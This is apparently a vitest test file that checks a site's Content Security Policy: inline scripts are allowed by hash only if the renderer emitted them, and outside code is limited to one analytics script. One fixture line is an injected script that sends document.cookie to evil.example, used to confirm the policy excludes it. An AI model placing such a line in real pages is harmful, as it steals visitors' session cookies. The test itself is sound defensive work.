/**
 * The page CSP: inline scripts are allowed by hash only when the renderer itself
 * emitted them (an injected script would not be), and the only outside code a page may load is
 * the consented analytics script, by its path: no host that serves anyone's code.
 */
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ownScriptHashes } from '../../api/ssr/scriptHashes';
import { startHarness, type Harness } from './harness';

const sha = (source: string) => `'sha256-${createHash('sha256').update(source).digest('base64')}'`;

describe('hashes of inline scripts', () => {
  it('covers the renderer’s own scripts and none found beside them in the HTML', () => {
    const own = ['self.$_TSR={h(){}}', '$_TSR.router={matches:[]}', 'addEventListener("load",function(){})'];
    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
    const html =
      `<html><head><script type="application/ld+json">{"@type":"Dentist"}</script></head><body><div id="root">` +
      `<p>Text</p><script>${injected}</script><script data-tsr-stream-part>${own[0]}</script><script>${own[1]}</script>` +
      `</div><script src="/assets/x.js"></script><script>${own[2]}</script></body></html>`;
    const { hashes, foreign } = ownScriptHashes(html, own);
    expect(hashes.sort()).toEqual(own.map(sha).sort());
    expect(hashes).not.toContain(sha(injected));
    expect(foreign).toEqual([injected]);
  });
});

describe('served page CSP', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness('csp', {}, { site: true });
  });
  afterAll(async () => {
    await h?.close();
  });

  const scriptSrc = (csp: string) => /(?:^|;)\s*script-src ([^;]*)/.exec(csp)?.[1]?.trim().split(/\s+/) ?? [];

  it('allows exactly the page’s own inline scripts by hash, and of outside code only the analytics script by its path', async () => {
    // An app page (its loader and the router's data), a frame page (its loader; its frame data is a
    // JSON data block, which no policy governs), a not-found page.
    for (const path of ['/de/behandlungen', '/de/kontakt', '/en/blog', '/de/gibt/es/nicht']) {
      const res = await fetch(h.target.baseUrl + path);
      const html = await res.text();
      const csp = res.headers.get('content-security-policy') ?? '';
      const sources = scriptSrc(csp);
      // Framing is refused by the policy alone (no X-Frame-Options beside it); fonts fall under default-src.
      expect.soft(csp, path).toContain("frame-ancestors 'none'");
      expect.soft(res.headers.get('x-frame-options'), path).toBeNull();
      expect.soft(csp, path).not.toContain('font-src');
      const inline = [
        ...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/(?:ld\+)?json")[^>]*>([\s\S]*?)<\/script>/g),
      ].map((m) => m[1]!);
      expect.soft(inline.length, path).toBeGreaterThan(0);
      expect.soft(sources.filter((s) => s.startsWith("'sha256-")).sort(), path).toEqual([...new Set(inline.map(sha))].sort());
      expect
        .soft(
          sources.filter((s) => !s.startsWith("'sha256-")),
          path,
        )
        .toEqual(["'self'", 'https://www.googletagmanager.com/gtag/js']);
    }
  });
});
